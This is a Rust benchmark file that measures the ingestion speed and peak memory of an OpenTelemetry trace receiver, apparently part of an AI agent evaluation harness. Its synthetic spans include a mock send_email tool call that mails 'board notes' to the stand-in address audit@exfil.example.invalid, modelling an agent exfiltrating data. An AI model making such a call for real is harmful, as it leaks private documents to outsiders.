//! The receiver's ingestion speed and memory (ignored by default; bench/evidence.sh runs
//! each test in a process of its own, in release mode, and prints what they print).
//!
//! - `throughput_protobuf`, `throughput_json`: 4 exporters post bodies of 512 spans (8
//!   traces of 64 spans: a third tool calls with arguments and a result, a third HTTP
//!   client spans, a third chat spans) as the SDKs' batch processors do, each call's
//!   traces opened before its body is sent and taken after it is answered, as targets
//!   do. Prints spans ingested per second (decoded, read and filed) over the whole run.
//! - `peak_memory_protobuf`, `peak_memory_json`: 1,000,000 spans posted into 250 traces
//!   held open at once (4,000 spans each against the default cap of 1,024 per trace, so
//!   the caps are engaged) plus a tenth of spans of traces nobody opened; then every
//!   trace is taken. Prints the process's peak resident set (VmHWM) before and after,
//!   and what was dropped. The exporters' pre-encoded bodies are part of the process:
//!   a few MB, printed.

use gauntlet_evidence::caps::Caps;
use gauntlet_evidence::collector::TraceId;
use gauntlet_evidence::receiver::Receiver;
use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
use opentelemetry_proto::tonic::common::v1::{AnyValue, KeyValue, any_value};
use opentelemetry_proto::tonic::resource::v1::Resource;
use opentelemetry_proto::tonic::trace::v1::{ResourceSpans, ScopeSpans, Span};
use prost::Message as _;
use std::sync::Arc;
use std::time::Instant;

const ROOT: [u8; 8] = [0xAB; 8];

fn kv(k: &str, v: &str) -> KeyValue {
    KeyValue {
        key: k.into(),
        value: Some(AnyValue {
            value: Some(any_value::Value::StringValue(v.into())),
        }),
        key_strindex: 0,
    }
}

fn trace_id(n: u64) -> TraceId {
    let mut t = [0u8; 16];
    t[..8].copy_from_slice(&n.to_be_bytes());
    t[8..].copy_from_slice(&(!n).to_be_bytes());
    t
}

/// A span of `trace` below the try's root: kind `i % 3` picks a tool call, an HTTP
/// client span or a chat span.
fn span(trace: TraceId, i: u64) -> Span {
    let mut id = [0u8; 8];
    id.copy_from_slice(&(i.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1).to_be_bytes());
    let (name, attributes) = match i % 3 {
        0 => (
            "execute_tool send_email",
            vec![
                kv("gen_ai.operation.name", "execute_tool"),
                kv("gen_ai.tool.name", "send_email"),
                kv("gen_ai.tool.call.id", "call_0123456789"),
                kv(
                    "gen_ai.tool.call.arguments",
                    r#"{"to":"audit@exfil.example.invalid","subject":"board notes","body":"Board notes (synthetic): the picnic moves to Friday. Please archive these notes."}"#,
                ),
                kv(
                    "gen_ai.tool.call.result",
                    &"sent to audit@exfil.example.invalid; ".repeat(8),
                ),
            ],
        ),
        1 => (
            "GET",
            vec![
                kv("http.request.method", "GET"),
                kv(
                    "url.full",
                    "http://127.0.0.1:8000/pages/news.html?session=5550123",
                ),
                kv("server.address", "127.0.0.1"),
                kv("network.protocol.version", "1.1"),
            ],
        ),
        _ => (
            "chat scripted",
            vec![
                kv("gen_ai.operation.name", "chat"),
                kv("gen_ai.request.model", "scripted"),
                kv("gen_ai.system", "openai"),
                kv("server.address", "127.0.0.1"),
            ],
        ),
    };
    Span {
        trace_id: trace.to_vec(),
        span_id: id.to_vec(),
        parent_span_id: ROOT.to_vec(),
        name: name.into(),
        kind: 3,
        start_time_unix_nano: 1_700_000_000_000_000_000 + i,
        end_time_unix_nano: 1_700_000_000_000_100_000 + i,
        attributes,
        ..Default::default()
    }
}

/// One export: `per` spans of each trace in `traces`.
fn export(traces: &[TraceId], per: u64, salt: u64) -> ExportTraceServiceRequest {
    let spans = traces
        .iter()
        .flat_map(|t| (0..per).map(move |i| span(*t, salt * 1_000_003 + i)))
        .collect();
    ExportTraceServiceRequest {
        resource_spans: vec![ResourceSpans {
            resource: Some(Resource {
                attributes: vec![kv("service.name", "bench-agent")],
                ..Default::default()
            }),
            scope_spans: vec![ScopeSpans {
                spans,
                ..Default::default()
            }],
            ..Default::default()
        }],
    }
}

fn encode(req: &ExportTraceServiceRequest, json: bool) -> Vec<u8> {
    if json {
        serde_json::to_vec(req).expect("an export serialises")
    } else {
        req.encode_to_vec()
    }
}

fn content_type(json: bool) -> &'static str {
    if json {
        "application/json"
    } else {
        "application/x-protobuf"
    }
}

/// This process's peak resident set, KiB (VmHWM).
fn peak_rss_kib() -> u64 {
    let s = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
    s.lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/self/status")
}

/// A plain-HTTP client (reqwest is built without a default TLS crypto provider).
fn client() -> reqwest::Client {
    let _ = rustls::crypto::ring::default_provider().install_default();
    reqwest::Client::new()
}

fn start(caps: Caps) -> Arc<Receiver> {
    Receiver::start("127.0.0.1:0".parse().unwrap(), caps).expect("the receiver starts")
}

const CLIENTS: u64 = 4;

async fn throughput(json: bool) {
    let r = start(Caps::default());
    let url = format!("{}/v1/traces", r.endpoint());
    const BODIES_PER_CLIENT: u64 = 500;
    const TRACES: u64 = 8;
    const PER: u64 = 64;
    // The span ids and attributes do not change what the receiver does per span, so a
    // client re-sends one encoded body with its trace ids rewritten per call: the
    // receiver sees fresh traces, the clients spend no time encoding.
    let bodies: Vec<(Vec<TraceId>, Vec<u8>)> = (0..CLIENTS * BODIES_PER_CLIENT)
        .map(|b| {
            let traces: Vec<TraceId> = (0..TRACES).map(|t| trace_id(b * TRACES + t)).collect();
            let body = encode(&export(&traces, PER, b % 7), json);
            (traces, body)
        })
        .collect();
    let bytes: usize = bodies.iter().map(|b| b.1.len()).sum();
    let bodies = Arc::new(bodies);
    let client = client();
    let t0 = Instant::now();
    let mut tasks = Vec::new();
    for c in 0..CLIENTS {
        let (r, url, client, bodies) = (r.clone(), url.clone(), client.clone(), bodies.clone());
        tasks.push(tokio::spawn(async move {
            for b in (c * BODIES_PER_CLIENT)..((c + 1) * BODIES_PER_CLIENT) {
                let (traces, body) = &bodies[b as usize];
                for t in traces {
                    r.collector().open(*t, ROOT);
                }
                let resp = client
                    .post(&url)
                    .header("content-type", content_type(json))
                    .body(body.clone())
                    .send()
                    .await
                    .unwrap();
                assert!(resp.status().is_success(), "{}", resp.status());
                for t in traces {
                    let e = r.collector().take(*t).unwrap();
                    assert_eq!(e.spans, PER);
                }
            }
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    let secs = t0.elapsed().as_secs_f64();
    let spans = CLIENTS * BODIES_PER_CLIENT * TRACES * PER;
    let c = r.collector().counts();
    assert_eq!(c.spans, spans);
    assert_eq!(c.dropped_spans + c.unknown_spans + c.refused_requests, 0);
    println!(
        "evidence-bench throughput encoding={} spans={spans} bodies={} body_bytes_avg={} wall_s={secs:.3} spans_per_s={:.0} MB_per_s={:.1}",
        if json { "json" } else { "protobuf" },
        CLIENTS * BODIES_PER_CLIENT,
        bytes / (CLIENTS * BODIES_PER_CLIENT) as usize,
        spans as f64 / secs,
        bytes as f64 / secs / 1e6,
    );
}

async fn peak_memory(json: bool) {
    let before = peak_rss_kib();
    let caps = Caps::default();
    let r = start(caps);
    let url = format!("{}/v1/traces", r.endpoint());
    const OPEN: u64 = 250;
    const TOTAL: u64 = 1_000_000;
    const PER_BODY_TRACE: u64 = 50;
    // A body: 10 open traces and 1 unknown one, 50 spans each.
    let per_body = 11 * PER_BODY_TRACE;
    let n_bodies = TOTAL.div_ceil(per_body);
    for t in 0..OPEN {
        r.collector().open(trace_id(t), ROOT);
    }
    // 25 distinct bodies (every open trace in 10 of them), re-sent in turn.
    let templates: Vec<Vec<u8>> = (0..25u64)
        .map(|k| {
            let mut traces: Vec<TraceId> = (0..10).map(|j| trace_id(k * 10 + j)).collect();
            traces.push(trace_id(1_000_000 + k));
            encode(&export(&traces, PER_BODY_TRACE, k), json)
        })
        .collect();
    let template_bytes: usize = templates.iter().map(Vec::len).sum();
    let templates = Arc::new(templates);
    let client = client();
    let t0 = Instant::now();
    let mut tasks = Vec::new();
    for c in 0..CLIENTS {
        let (url, client, templates) = (url.clone(), client.clone(), templates.clone());
        tasks.push(tokio::spawn(async move {
            let mut b = c;
            while b < n_bodies {
                let body = templates[(b % 25) as usize].clone();
                let resp = client
                    .post(&url)
                    .header("content-type", content_type(json))
                    .body(body)
                    .send()
                    .await
                    .unwrap();
                assert!(resp.status().is_success(), "{}", resp.status());
                b += CLIENTS;
            }
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    let secs = t0.elapsed().as_secs_f64();
    let during = peak_rss_kib();
    let c = r.collector().counts();
    let mut kept = 0u64;
    for t in 0..OPEN {
        let e = r.collector().take(trace_id(t)).unwrap();
        kept += e.spans - e.dropped_spans;
    }
    assert_eq!(r.collector().open_traces(), 0);
    println!(
        "evidence-bench peak-memory encoding={} spans={} open_traces={OPEN} kept={kept} dropped_over_cap={} unknown_trace={} max_spans={} max_trace_bytes={} wall_s={secs:.3} spans_per_s={:.0} bodies_held_kib={} peak_rss_before_kib={before} peak_rss_kib={during}",
        if json { "json" } else { "protobuf" },
        c.spans,
        c.dropped_spans,
        c.unknown_spans,
        caps.max_spans,
        caps.max_trace_bytes,
        c.spans as f64 / secs,
        template_bytes / 1024,
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "benchmark; bench/evidence.sh runs it"]
async fn throughput_protobuf() {
    throughput(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "benchmark; bench/evidence.sh runs it"]
async fn throughput_json() {
    throughput(true).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "benchmark; bench/evidence.sh runs it"]
async fn peak_memory_protobuf() {
    peak_memory(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "benchmark; bench/evidence.sh runs it"]
async fn peak_memory_json() {
    peak_memory(true).await;
}
